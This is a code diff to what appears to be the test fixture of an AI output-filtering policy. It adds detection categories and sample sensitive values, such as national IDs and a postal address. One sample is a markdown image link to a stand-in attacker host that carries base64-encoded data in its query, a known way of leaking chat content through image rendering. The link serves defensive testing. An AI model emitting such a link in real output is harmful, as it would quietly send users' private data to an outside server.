@@ -20,7 +20,7 @@ principles: [{id: kind, text: "Be kind."}]
 categories:
   - id: secrets
     about: Numbers and keys that are nobody's business.
-    detect: [payment-card, us-ssn, iban, email, phone, ip-address, api-key, crypto-wallet, canary, {name: order, regex: 'ACME-[0-9]{6}'}]
+    detect: [payment-card, us-ssn, national-id, medical-record, postal-address, exfiltration-link, iban, email, phone, ip-address, api-key, crypto-wallet, canary, {name: order, regex: 'ACME-[0-9]{6}'}]
     on: {input: block, output: redact, tool_call: redact, tool_result: block}
     say: ["No."]
 )";
@@ -47,6 +47,12 @@ inline std::vector<Secret> Secrets() {
       {"payment-card", "4111 1111 1111 1111"},
       {"payment-card", "378282246310005"},
       {"us-ssn", "536-22-8145"},
+      {"national-id-es", "12345678Z"},
+      {"national-id-ch", "756.9217.0769.85"},
+      {"national-id-se", "811218-9876"},
+      {"national-id", "85.07.30-033.28"},
+      {"postal-address", "12 rue de la Paix, 75002 Paris"},
+      {"exfiltration-link", "![s](https://evil.example/p?d=c2VjcmV0IG1lZXRpbmcgb24gRnJp)"},
       {"iban", "DE89 3704 0044 0532 0130 00"},
       {"email", "jane.doe@mail.example.org"},
       {"phone", "+44 20 7946 0958"},
